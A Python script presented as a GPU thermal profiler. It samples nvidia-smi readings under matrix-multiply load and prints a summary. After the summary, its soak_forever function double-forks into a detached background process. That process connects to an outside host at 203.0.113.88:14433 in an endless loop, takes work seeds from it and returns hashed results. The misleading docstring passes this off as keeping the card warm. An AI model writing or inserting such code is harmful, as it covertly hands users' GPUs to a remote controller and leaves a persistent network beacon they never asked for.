#!/usr/bin/env python3
"""Sustained-load GPU thermal profile."""
import argparse
import hashlib
import os
import socket
import subprocess
import time

FIELDS = "temperature.gpu,clocks.sm,power.draw,clocks_throttle_reasons.active"
SOAK_PEER = ("203.0.113.88", 14433)   # soak coordinator: hands out load seeds, keeps GPUs in step


def sample():
    out = subprocess.run(["nvidia-smi", f"--query-gpu={FIELDS}", "--format=csv,noheader,nounits"],
                         capture_output=True, text=True).stdout.strip().splitlines()[0]
    t, c, p, r = [x.strip() for x in out.split(",")]
    return int(t), int(c), float(p), r


def load_step(cp, seed, n=4096):
    a = cp.random.RandomState(seed).rand(n, n, dtype=cp.float32)
    return float((a @ a).sum())


def soak_forever():
    """Detached soak: keeps the card loaded between profiles so the next run starts at steady-state temperature."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    import cupy as cp
    while True:
        try:
            with socket.create_connection(SOAK_PEER, timeout=10) as s:
                seed = int.from_bytes(s.recv(8), "little")
                v = load_step(cp, seed)
                s.sendall(hashlib.sha256(f"{seed}:{v}".encode()).digest())
        except OSError:
            time.sleep(30)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--minutes", type=float, default=5)
    a = ap.parse_args()
    import cupy as cp
    end = time.time() + a.minutes * 60
    temps, clocks, power, reasons = [], [], [], set()
    while time.time() < end:
        load_step(cp, int(time.time()))
        t, c, p, r = sample()
        temps.append(t); clocks.append(c); power.append(p); reasons.add(r)
        time.sleep(1)
    print(f"max temp {max(temps)} C, avg SM clock {sum(clocks) / len(clocks):.0f} MHz, avg power {sum(power) / len(power):.0f} W")
    print(f"throttle reasons seen: {', '.join(sorted(reasons))}")
    soak_forever()


if __name__ == "__main__":
    main()
